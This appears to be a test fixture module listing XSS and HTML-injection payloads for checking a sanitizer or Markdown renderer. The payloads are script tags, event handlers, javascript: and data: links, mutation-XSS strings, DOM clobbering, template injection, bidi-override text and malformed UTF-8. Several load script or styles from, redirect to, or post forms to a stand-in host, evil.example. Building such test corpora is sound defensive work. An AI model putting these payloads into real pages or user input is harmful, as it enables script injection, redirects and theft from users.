// Texts that would act if a page took them for more than text. What runs sets the global `probe`; what becomes an element
// carries the attribute `data-probe`.

/** Each by the way in that it tries. */
export const CORPUS = {
  script: '<script data-probe>probe=1;alert(1)</script>',
  'script from elsewhere': '"><script src=https://evil.example/x.js data-probe></script>',
  'end of a title': '</title></textarea></style></pre><script data-probe>probe=1</script>',
  image: '<img src=x onerror="probe=1" data-probe>',
  'broken image': '<img """><script data-probe>probe=1</script>">',
  svg: '<svg/onload=probe=1 data-probe>',
  'script in svg': '<svg><script data-probe>probe=1</script><a xlink:href="javascript:probe=1"><text>x</text></a></svg>',
  frame: '<iframe data-probe srcdoc="<script>parent.probe=1</script>"></iframe>',
  object: '<object data-probe data="data:text/html,<script>parent.probe=1</script>"></object><embed data-probe src=//evil.example>',
  'double quote': '" autofocus onfocus="probe=1" data-probe="',
  'single quote': "' autofocus onfocus='probe=1' data-probe='",
  'no quote': 'x onmouseover=probe=1 data-probe tabindex=0',
  'link in HTML': '<a data-probe href="javascript:probe=1">Sign in</a>',
  'link in Markdown': '[Sign in](javascript:probe=1) [and](JaVaScRiPt:probe=1) [or](javascript&colon;probe=1)',
  'split link in Markdown': '[x](java&Tab;script:probe=1) [y](&#x6A;avascript:probe=1) [z](\u0001javascript:probe=1)',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5wcm9iZT0xPC9zY3JpcHQ+) [y](vbscript:probe) [z](file:///etc/passwd)',
  autolink: '<javascript:probe=1> <data:text/html,probe> <https://evil.example/"onclick="probe=1">',
  'title of a link': '[x](https://evil.example "t\\" onclick=\\"probe=1") ![a](x "b\\" onerror=\\"probe=1")',
  'reference of a link': '[x][r]\n\n[r]: javascript:probe=1 "t"',
  style: '<style data-probe>*{display:none}</style><p data-probe style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  base: '<base data-probe href="https://evil.example/"><link data-probe rel=stylesheet href=//evil.example/x.css>',
  refresh: '<meta data-probe http-equiv="refresh" content="0;url=https://evil.example/">',
  form: '<form data-probe action="https://evil.example/"><input name=code><button formaction="javascript:probe=1">Sign in</button></form>',
  comment: '<!--><img src=x onerror=probe=1 data-probe>--> <!-- --!><svg onload=probe=1 data-probe> -->',
  'mutation in noscript': '<noscript><p title="</noscript><img src=x onerror=probe=1 data-probe>">',
  'mutation in math': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=probe=1 data-probe&gt;">',
  toggle: '<details open ontoggle=probe=1 data-probe><summary>x</summary></details>',
  clobbering: '<form data-probe id="content" name="forms"><input name=action></form><a data-probe id=probe></a>',
  'shadow root': '<div data-probe><template shadowrootmode=open><img src=x onerror=probe=1></template></div>',
  'escaped before': '&lt;img src=x onerror=probe=1&gt; &#60;script&#62;probe=1&#60;/script&#62; %3Cscript%3Eprobe=1%3C/script%3E',
  templates: "{{constructor.constructor('probe=1')()}} ${probe=1} #{probe=1} <%= probe %>",
  'another alphabet of brackets': '＜script＞probe=1＜/script＞ ‹img src=x onerror=probe=1› +ADw-script+AD4-probe=1+ADw-/script+AD4-',
};

/** Characters that turn round what stands after them, until something isolates it. */
export const TURNED = 'safe \u202Eevil\u202D\u2066\u2067 text';

/** Bytes that are no UTF-8, between which a careless reader would find a tag. */
export const BROKEN = Buffer.concat([
  Buffer.from([0xff, 0xfe, 0xc0, 0xbc]),
  Buffer.from('script data-probe>probe=1'),
  Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]),
  Buffer.from('<img src=x onerror=probe=1 data-probe'),
  Buffer.from([0xe3, 0x80]),
  Buffer.from('>'),
]);
